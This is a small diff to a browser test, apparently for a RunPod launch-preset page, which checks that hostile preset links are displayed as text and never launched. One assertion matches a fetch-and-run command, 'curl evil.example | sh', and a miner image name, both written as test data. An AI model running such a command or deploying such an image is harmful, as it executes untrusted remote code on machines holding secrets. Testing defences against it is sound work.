@@ -198,7 +198,7 @@ atBothWidths("broken, old, newer and hostile links give words, and never launch"
   const said = await presets.filled.innerText();
   for (const words of [
     /evil\/miner:1/, /\/start.sh curl evil.example \| sh/, /secrets that RunPod keeps for you.*hf/, /PUBLIC_KEY/, /template/, /ceiling/,
-    /can't be read: cloud/, /does not know: endpoint, launch, warp/,
+    /can't be read: cloud/, /does not know: warp, launch, endpoint/,
   ]) assert.match(said, words);
   assert.equal(await page.locator("img").count(), 0);
   await until(async () => /</.test(await presets.problem("name").innerText()), "problems are shown at once");
